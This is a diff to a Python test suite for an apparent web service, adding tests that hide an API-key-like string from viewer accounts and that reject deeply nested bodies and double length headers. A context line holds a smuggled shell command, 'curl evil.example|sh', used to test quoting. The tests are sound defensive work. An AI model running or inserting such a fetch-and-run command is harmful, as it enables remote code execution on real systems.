@@ -107,3 +107,35 @@ def test_a_login_leads_to_no_place_outside(place: str) -> None:
 def test_a_command_that_is_copied_runs_nothing_else() -> None:
     assert shell("x; curl evil.example|sh #") == "'x; curl evil.example|sh #'"
     assert shell("mail") == "mail"
+
+
+async def test_a_viewer_reads_no_secret_in_a_key_an_instruction_or_a_plan(hf: Holdfast) -> None:
+    """Where people put them although they should not."""
+    key = "sk-ant-api03-" + "a1B2c3D4" * 5
+    told = {"instructions": f"Log in with {key}.", "description": f"uses {key}"}
+    row = await hf.agents.create("clerk", model="scripted:", **told)  # type: ignore[arg-type]
+    await hf.session(f"user-{key}")
+    admin = Client(web(hf, who=lambda _: Principal("ann", "admin")))
+    plan = {"plan_id": "p", "plan_description": key, "tasks": [{"task_number": 1, "command": "echo", "args": [key]}]}
+    stored = await admin.post("/api/v1/plans", plan)
+    assert stored.status in (200, 201), stored.body
+    viewer = Client(web(hf, who=lambda _: Principal("eve", "viewer")), headers={"accept": "text/html"})
+    for path in (
+        *("/api/v1/agents", f"/api/v1/agents/{row.id}", f"/api/v1/agents/{row.id}/versions", "/api/v1/sessions"),
+        *("/api/v1/plans", "/api/v1/plans/p", f"/agents/{row.id}", "/sessions", "/plans", "/plans/p"),
+    ):
+        answer = await viewer.get(path)
+        assert answer.status == 200, (path, answer.body)
+        assert key not in answer.body.decode(), path
+
+
+async def test_a_body_that_nests_without_end_is_a_wrong_login(hf: Holdfast) -> None:
+    client = Client(web(hf))
+    deep = await client.call("POST", "/login", raw=b"[" * 200_000, headers={"sec-fetch-site": "same-origin"})
+    assert deep.status == 422, deep.body
+
+
+async def test_a_request_that_says_twice_how_long_it_is_is_refused(hf: Holdfast) -> None:
+    client = Client(web(hf, who=lambda _: Principal("ann", "admin")))
+    twice = await client.post("/api/v1/sessions", {}, transfer_encoding="chunked")
+    assert (twice.status, twice.json["error"]) == (400, "TwoLengths")
